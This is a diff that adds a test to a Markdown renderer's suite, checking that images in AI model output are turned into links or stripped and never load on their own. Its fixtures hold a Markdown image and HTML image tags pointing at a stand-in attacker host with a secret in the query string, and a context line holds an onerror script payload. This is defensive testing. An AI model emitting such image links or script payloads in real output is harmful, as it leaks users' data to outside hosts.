@@ -39,3 +39,14 @@ describe('renderMarkdown', () => {
     expect(d.querySelector('code')!.textContent).toBe('<img src=x onerror=alert(1)>');
   });
 });
+
+describe('images from the model', () => {
+  it('never load by themselves: Markdown and HTML images become links or are removed', () => {
+    const d = dom('Look: ![secret chart](https://attacker.example/p.png?q=SECRET)\n\n<img src="https://attacker.example/x.png"><picture><source srcset="https://attacker.example/y.png"></picture><svg><image href="https://attacker.example/z.png"/></svg>');
+    expect(d.querySelector('img, picture, source, image')).toBeNull();
+    const link = d.querySelector('a.image-link')!;
+    expect(link.textContent).toBe('[image: secret chart]');
+    expect(link.getAttribute('href')).toBe('https://attacker.example/p.png?q=SECRET');
+    expect(d.innerHTML).not.toContain('attacker.example/x.png');
+  });
+});
